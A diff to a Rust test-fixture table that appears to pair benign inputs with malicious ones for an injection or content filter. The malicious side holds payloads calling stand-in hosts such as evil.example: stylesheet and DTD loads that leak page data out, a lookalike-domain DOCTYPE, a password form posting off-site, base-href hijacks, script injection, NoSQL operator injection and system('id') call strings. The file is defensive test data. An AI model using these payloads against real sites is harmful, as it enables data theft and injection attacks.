@@ -83,15 +83,17 @@ pub(super) const EVERYDAY: &[Pair] = &[
     // what a fragment loads from elsewhere, and what a page of its own does
     body("html", &[
         "<link rel=\"stylesheet\" href=\"/a.css\"><p>x</p>", "<link rel=\"stylesheet\" href=\"https://cdn.jsdelivr.net/npm/bootstrap@5/dist/css/bootstrap.min.css\"><p>x</p>",
-        "<!doctype html><html><head><link rel=\"stylesheet\" href=\"https://cdn.example.com/mail.css\"></head></html>", "<style>@import url(https://fonts.example.com/css2?family=Inter);</style>",
+        "<p>x</p><link rel=\"stylesheet\" href=\"https://assets.example.com/site.css?v=2\">", "<style>@import url(https://fonts.example.com/css2?family=Inter);</style>",
         "<form action=\"https://example.us1.list-manage.com/subscribe/post\"><input type=\"email\" name=\"EMAIL\"></form>", "<form action=\"/login\"><input type=\"password\"></form>",
     ], &[
         "<p>x</p><link rel=stylesheet href=https://evil.example/x.css>", "<link rel=\"stylesheet\" href=\"//evil.example/a.css\"><p>a</p>", "<link rel=stylesheet href=\\\\evil.example\\a.css>",
+        "<link rel=\"stylesheet\" href=\"https://evil.example/x?c=\">", "<link rel=\"stylesheet\" href=\"https://10.1.2.3/x.css\">", "<html><link rel=\"stylesheet\" href=\"//evil.example/a\"></html>",
         "<style>@import url(//fonts.evil.example/x.css);</style>", "<form action=\"https://evil.example/\"><input name=u><input type=password name=p></form>",
         "<html><base href=\"https://evil.example/\"></html>",
     ]),
     at("/api/campaigns", body("html", &[
         "<html><head><base href=\"https://shop.example.com/\" target=\"_blank\"></head><body><img src=\"a.png\"></body></html>",
+        "<!doctype html><html><head><link rel=\"stylesheet\" href=\"https://cdn.example.com/mail\"></head></html>",
     ], &[
         "<p>x</p><base href=\"https://evil.example/\">", "<html><base href=\"javascript:alert(1)//\"></html>", "<html><base href=\"//evil.example/\"></html>",
         "<html><head><base href=\"https://a.example/\"><script>alert(1)</script></head></html>", "<html><base href=\"https://a.example/\"><noscript><p></html>",
@@ -104,6 +106,13 @@ pub(super) const EVERYDAY: &[Pair] = &[
         "{\"a\":{\"$gt\":\"\"}}", "{\"a\":{\"$ne\":1}}", "{\"a\":{\"$gt\":0}}", "{\"a\":{\"$gt\":1},\"$where\":\"1\"}", "{\"a\":{\"$gt\":1,\"$ne\":2}}",
     ]),
     query("name", &["Kim"], &["{\"$gt\":1}"]),
+    // document types of what builds and news agencies write
+    body("doc", &[
+        "<!DOCTYPE coverage SYSTEM \"http://cobertura.sourceforge.net/xml/coverage-04.dtd\"><coverage/>", "<!DOCTYPE testng SYSTEM \"https://testng.org/testng-1.0.dtd\"><testng/>",
+        "<!DOCTYPE newsml SYSTEM \"http://www.newsml.org/dl/NewsML_1.2.dtd\"><newsml/>",
+    ], &[
+        "<!DOCTYPE testng SYSTEM \"https://testng.org.evil.example/testng-1.0.dtd\"><testng/>", "<!DOCTYPE coverage SYSTEM \"http://evil.example/coverage-04.dtd\"><coverage/>",
+    ]),
     // words around a call
     query("q", &["php system() function", "python eval() builtin explained"], &["php system('id');", "return system('id') x", "echo system('id') x", "system('id')"]),
 ];
